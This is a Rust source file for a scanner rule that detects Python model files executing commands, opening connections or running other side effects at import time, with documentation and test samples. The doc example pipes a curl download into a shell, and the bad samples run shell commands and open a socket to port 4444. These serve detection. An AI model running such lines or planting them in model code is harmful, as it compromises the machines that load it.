use weighhouse_formats::python::{PythonFacts, Scope};

use super::acts::{at_import, role, shown};
use crate::knowledge::effects::effect;
use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// Python code does something to the machine as soon as it is imported.
    ///
    /// # What it detects
    ///
    /// Calls at module level, in class bodies, decorators and default values, and in functions that those call: starting programs,
    /// opening connections, deleting, loading native code, unpickling, changing what starts by itself. Aliases, constant
    /// strings, `getattr` and `__import__` are followed. What is ordinary in a script weighs less there than in code that a loader imports.
    ///
    /// # Why it matters
    ///
    /// `trust_remote_code=True` imports the file before anything of the model is used. Code that only defines a model does nothing on
    /// import.
    ///
    /// # Example
    ///
    /// `os.system('curl https://example.org/x | sh')` at the top of `modeling_x.py`.
    ///
    /// # What to do
    ///
    /// Do not load the model with remote code. Ask the maker why the file does this, and use a revision without it.
    ///
    /// # References
    ///
    /// - <https://huggingface.co/docs/transformers/custom_models>
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub(crate) ImportTimeAct {
        id: "WH-COD-001",
        slug: "import-time-act",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Python, Notebook],
        cwe: [94, 506],
        owasp: ["LLM03", "LLM04"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for ImportTimeAct {
    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        let role = role(cx.name(), cx.node());
        for call in facts.calls.iter().filter(|call| call.scope == Scope::Import) {
            let Some((effect, what)) = effect(&call.callee) else { continue };
            if let Some(severity) = at_import(effect, call, role) {
                cx.report(format!("{} {what}, when the file is imported", quote(&call.callee)))
                    .severity(severity)
                    .at(call.region)
                    .line(call.line)
                    .key(&call.callee)
                    .evidence(shown(call))
                    .emit();
            }
        }
    }
}

crate::samples! {
    ImportTimeAct,
    bad: {
        "a command at module level" => [("modeling_x.py", b"import os\nos.system('id > /tmp/x')\n".to_vec())],
        "a command through aliases" => [("modeling_x.py", b"import subprocess as s\nrun = s.run\nrun(['id'])\n".to_vec())],
        "a command in a decorator" => [("modeling_x.py", b"import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef f(): pass\n".to_vec())],
        "a socket in a class body" => [("modeling_x.py", b"import socket\nclass M:\n    s = socket.socket()\n    s.connect(('192.0.2.1', 4444))\n".to_vec())],
    },
    ok: {
        "an ordinary model" => [("modeling_x.py", ORDINARY.as_bytes().to_vec())],
    },
}

#[cfg(test)]
const ORDINARY: &str = "import math\nimport os\nfrom typing import Optional\n\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.layers = nn.ModuleList([nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_layers)])\n        self.act = getattr(nn, 'GELU')()\n\n    def forward(self, x, mask: Optional[torch.Tensor] = None):\n        for layer in self.layers:\n            x = self.act(layer(x)) / math.sqrt(x.shape[-1])\n        return x\n";
